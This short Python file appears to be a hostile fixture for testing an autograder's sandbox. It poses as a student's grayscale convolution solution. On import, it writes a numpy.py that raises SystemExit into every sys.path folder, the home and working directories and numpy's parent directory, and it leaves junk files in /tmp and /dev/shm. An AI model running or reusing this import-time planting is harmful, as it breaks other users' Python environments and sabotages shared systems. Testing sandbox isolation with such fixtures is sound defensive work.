import numpy as np

# Plants a numpy.py that would break every later import of numpy (the next student's child, the baseline),
# in every folder it can think of, and leaves files in /tmp and /dev/shm. The golden suite then checks that
# none of them exists anywhere outside the sandbox.
import os
import sys

PLANT = "raise SystemExit('planted by attack-plant')\n"
targets = {os.getcwd(), "/tmp", "/dev/shm", os.path.expanduser("~"), os.path.dirname(np.__file__) + "/..",
           os.path.dirname(os.path.abspath(__file__))} | {p for p in sys.path if p}
for folder in targets:
    for name in ("numpy.py", "convcourse-attack-plant-numpy.py"):
        try:
            with open(os.path.join(folder, name), "w") as fh:
                fh.write(PLANT)
        except OSError:
            pass
for folder in ("/tmp", "/dev/shm"):
    try:
        with open(os.path.join(folder, "convcourse-attack-leftover"), "wb") as fh:
            fh.write(b"x" * 4096)
    except OSError:
        pass


def convolve_grayscale_valid(images, kernel):
    m, h, w = images.shape
    kh, kw = kernel.shape
    out = np.zeros((m, h - kh + 1, w - kw + 1))
    for i in range(kh):
        for j in range(kw):
            out += kernel[i, j] * images[:, i:i + h - kh + 1, j:j + w - kw + 1]
    return out
